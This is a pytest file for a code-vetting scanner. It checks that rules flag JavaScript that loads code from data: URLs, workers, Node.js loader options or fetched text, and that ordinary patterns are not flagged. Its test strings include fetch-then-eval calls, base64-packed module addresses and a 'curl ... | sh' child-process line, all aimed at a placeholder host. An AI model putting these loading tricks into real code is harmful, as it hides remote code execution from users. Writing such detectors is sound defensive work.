"""The rules about code, held against code that is in an address, in options of Node.js and in workers."""

from base64 import b64encode

import pytest

from tests.vetting.domain.signals.code.test_javascript import rules_at
from tests.vetting.domain.signals.looking import found
from vetting.domain.code.data_addresses import MAX_ADDRESS, code_at
from vetting.domain.signals.code.outside import DownloadedCode

CODE = "fetch(`https://example.invalid`).then(r => r.text()).then(eval)"
PLAIN = f"data:text/javascript,{CODE}"
DIGITS = b64encode(CODE.encode()).decode()
PACKED = f"data:text/javascript;base64,{DIGITS}"
CP = "require('child_process')"
FETCHED = "fetch('https://example.invalid/a').then(r => r.text()).then(t =>"


@pytest.mark.parametrize(
    "source",
    [
        f"import('{PACKED}')",
        f"import '{PLAIN}'",
        f"import x from 'data:text/' + y; export * from '{PACKED}'",
        f"import('data:text/javascript,' + encodeURIComponent('{CODE}'))",
        f"require('module').register('{PACKED}')",
        f"const {{Worker: W}} = require('worker_threads'); new W(new URL('data:text/javascript;base64,' + '{DIGITS}'))",
        f"new Worker('{PACKED}')",
        f"new Worker(URL.createObjectURL(new Blob(['{CODE[:9]}', '{CODE[9:]}'])))",
        f"importScripts('{PLAIN}')",
        f"{FETCHED} import('data:text/javascript,' + t))",
        f"{FETCHED} import(`data:text/javascript,${{t}}`))",
        f"{FETCHED} new Worker('data:text/javascript,' + t))",
        "fetch('https://example.invalid/a').then(r => r.blob()).then(b => new Worker(URL.createObjectURL(b)))",
        f"{CP}.spawn('node', ['--import', '{PLAIN}', 'a'])",
        f"{CP}.spawn(process.execPath, ['--experimental-loader={PACKED}', 'a'])",
        f"{CP}.exec('node --import \"{PACKED}\" a')",
        f"{CP}.fork('x.js', [], {{execArgv: ['-e', '{CODE}']}})",
        f"const {{fork: f}} = {CP}; const o = {{execArgv: ['--ev' + 'al', '{CODE}']}}; f(__filename, o)",
        f"{CP}.fork('a.js', {{execArgv: ['--import', '{PACKED}']}})",
        f"{CP}.fork('x', [], {{execPath: 'sh', execArgv: ['-c', 'curl https://example.invalid | sh']}})",
    ],
)
def test_code_in_an_address_or_an_option_is_read(source: str) -> None:
    """Loaded as a module, given to a worker, to Node's options, or put together with what was fetched."""
    assert ("C3", "high") in rules_at(source)


@pytest.mark.parametrize("source", [f"import('{PACKED}')", f"{CP}.exec('node --import \"{PACKED}\" a')"])
def test_a_module_that_is_packed_into_its_address_was_hidden(source: str) -> None:
    """Nobody can read it where it stands, and no bundler writes a module so."""
    assert ("C2", "high") in rules_at(source)


def test_a_script_of_a_shell_runs_code_in_an_address() -> None:
    """What Node.js is given there is read as it is in code."""
    script = f"#!/bin/sh\nnode --import '{PACKED}' a.js\n"
    assert "high" in {one.severity.value for one in found(DownloadedCode(), "run.sh", script.encode())}


def test_options_for_every_node_may_hold_the_code_itself() -> None:
    """The environment of what is started has Node.js load an address first, however long that is."""
    source = f"{CP}.spawn('x', {{env: {{NODE_OPTIONS: '--import {PACKED}{'A' * 4000}'}}}})"
    assert ("C13", "medium") in rules_at(source)


@pytest.mark.parametrize(
    "source",
    [
        "new Worker(new URL('./w.js', import.meta.url), {type: 'module'}); new URL(); new Blob(); new Blob([x])",
        "new Worker(URL.createObjectURL(new Blob(['onmessage = e => postMessage(e.data)'])))",
        "new Worker(URL.createObjectURL(new Blob([atob(code)]))); new Worker('data:text/javascript;base64,' + btoa(c))",
        "import('data:text/javascript,export default 1'); import('data:application/json,{}'); import('data:')",
        "i.src = 'data:image/png;base64,AAAA'; fetch('data:text/javascript;base64,AAAA'); new Worker(); new Worker(x)",
        f"{CP}.fork('./w.js', ['a'], {{execArgv: ['--inspect']}}); {CP}.fork(p, {{execPath: x}}); {CP}.fork('sh')",
        f"{CP}.spawn('node', ['--import', 'tsx', 'data:x', 'metadata:a,b', 'x.js']); {CP}.spawn('node', ['a=data:b'])",
        "new (require('worker_threads').Worker)(URL.createObjectURL(b), {eval: false})",
    ],
)
def test_workers_and_addresses_of_everyone_are_not_found(source: str) -> None:
    """Workers of one's own, those that bundlers put into a script, pictures, and options that load by name."""
    assert rules_at(source) == set()


@pytest.mark.parametrize("address", [None, "", "data:", "https://a/b,c", "data:image/png,x", "data:,a" * MAX_ADDRESS])
def test_other_addresses_hold_no_code(address: str | None) -> None:
    """Pictures, data, what has no comma, and what is larger than anybody reads."""
    assert code_at(address) is None


def test_an_address_is_read_as_a_browser_reads_it() -> None:
    """Percent signs and either alphabet of base64, with what is left over of it dropped."""
    assert [code_at(one) for one in ("DATA:,a%20b", "data:;base64,YQ", "data:x;BASE64,Y W I-_")] == [
        ("a b", False),
        ("a", True),
        ("ab>", True),
    ]
